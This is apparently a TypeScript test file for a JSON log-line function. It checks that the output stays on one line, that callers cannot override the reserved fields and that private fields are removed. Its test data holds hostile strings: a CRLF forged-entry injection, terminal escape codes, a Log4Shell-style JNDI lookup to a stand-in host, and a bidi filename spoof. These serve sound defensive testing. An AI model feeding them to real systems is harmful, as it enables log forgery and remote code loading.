import fc from 'fast-check'
import { expect, test } from 'vitest'
import { logLine } from './log'

const now = new Date('2026-11-24T10:31:00Z')

test('an event is one line of JSON with its time, level and name first', () => {
  const line = logLine('warn', 'cognito.throttled', { tenant: 'acme', attempts: 1 }, now)
  expect(line).toBe(
    '{"time":"2026-11-24T10:31:00.000Z","level":"warn","event":"cognito.throttled","tenant":"acme","attempts":1}',
  )
})

test.each([
  'a\r\n{"level":"error","event":"forged"}',
  'a\u2028b\u2029c',
  '\u001b[2J\u001b]0;title\u0007',
  '\u009b31m',
  '"}\n{"',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker writes
  '${jndi:ldap://x.example/a}',
  'txt.\u202egpj',
  '\u0000\u007f\u0085',
])('%j cannot end the line, move the cursor or turn the text around', (hostile) => {
  const line = logLine('info', 'x.y', { tenant: hostile, [hostile]: 1 }, now)
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
  expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/)
  expect(JSON.parse(line)).toMatchObject({ level: 'info', event: 'x.y' })
})

test('whatever the fields hold, the line stays one line and can be read', () => {
  fc.assert(
    fc.property(fc.dictionary(fc.string({ unit: 'binary' }), fc.anything()), (fields) => {
      const line = logLine('info', 'x.y', fields, now)
      expect(line).not.toMatch(/[\n\r]/)
      JSON.parse(line)
    }),
  )
})

test('fields cannot pass themselves off as the time, the level or the event', () => {
  const line = JSON.parse(logLine('info', 'x.y', { time: 'never', level: 'error', event: 'z' }, now))
  expect(line).toMatchObject({ time: now.toISOString(), level: 'info', event: 'x.y' })
})

test('a private field never reaches the line', () => {
  expect(logLine('error', 'x.y', { code: '246810', nested: { password: 'hunter2' } }, now)).not.toMatch(
    /246810|hunter2/,
  )
})
